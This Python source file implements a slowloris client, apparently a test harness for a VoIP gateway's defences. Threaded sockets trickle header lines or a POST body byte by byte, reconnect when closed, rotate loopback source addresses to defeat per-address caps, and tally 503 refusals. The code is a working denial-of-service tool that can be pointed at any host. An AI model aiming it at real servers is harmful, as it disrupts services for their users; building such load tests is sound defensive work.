"""A slowloris: sockets that send a request a little at a time and never end it.

Each socket starts a request, then sends one more header line every ``every``
seconds (or, with ``body=True``, sends a whole head and then its body a byte at
a time); when the server closes it (or answers it, a 503 at the cap) it
reconnects at once. Each socket may come from its own loopback address, so a
per-address cap alone cannot hold it off.
"""

from __future__ import annotations

import contextlib
import select
import socket
import threading
from dataclasses import dataclass


@dataclass
class Tally:
    connects: int = 0
    refused: int = 0   # answered (a 503 at the cap) instead of left to trickle
    closed: int = 0    # closed by the server without an answer
    lines: int = 0


class Trickle:
    def __init__(self, port: int, count: int, every: float,
                 sources: list[str] | None = None, host: str = "127.0.0.1", *,
                 body: bool = False) -> None:
        self.port, self.host, self.every, self.body = port, host, every, body
        self.sources = sources or ["127.0.0.1"]
        self.count = count
        self.tally = Tally()
        self.lock = threading.Lock()
        self.stopped = threading.Event()
        self.threads = [threading.Thread(target=self._run, args=(n,), daemon=True)
                        for n in range(count)]

    def __enter__(self) -> Trickle:
        for thread in self.threads:
            thread.start()
        return self

    def __exit__(self, *_: object) -> None:
        self.stopped.set()
        for thread in self.threads:
            thread.join(10)

    def _count(self, field: str) -> None:
        with self.lock:
            setattr(self.tally, field, getattr(self.tally, field) + 1)

    def _run(self, n: int) -> None:
        source = self.sources[n % len(self.sources)]
        while not self.stopped.is_set():
            try:
                sock = socket.create_connection((self.host, self.port), timeout=5,
                                                source_address=(source, 0))
            except OSError:
                continue
            self._count("connects")
            with sock:
                self._trickle(sock, n)

    def _trickle(self, sock: socket.socket, n: int) -> None:
        line = (b"POST /voipgrid HTTP/1.1\r\nHost: gate\r\nContent-Length: 4000\r\n"
                b"Content-Type: application/x-www-form-urlencoded\r\n\r\nx"
                if self.body else b"GET /voipgrid HTTP/1.1\r\n")
        sent = 0
        while not self.stopped.is_set():
            try:
                sock.sendall(line)
            except OSError:
                self._count("closed")
                return
            self._count("lines")
            sent += 1
            line = b"x" if self.body else f"X-Pad-{sent}: {n}\r\n".encode()
            # Until the next line is due, watch for the server closing or answering.
            readable, _, _ = select.select([sock], [], [], self.every)
            if readable:
                answer = b""
                with contextlib.suppress(OSError):
                    answer = sock.recv(4096)
                self._count("refused" if answer.startswith(b"HTTP/1.1 503") else "closed")
                return
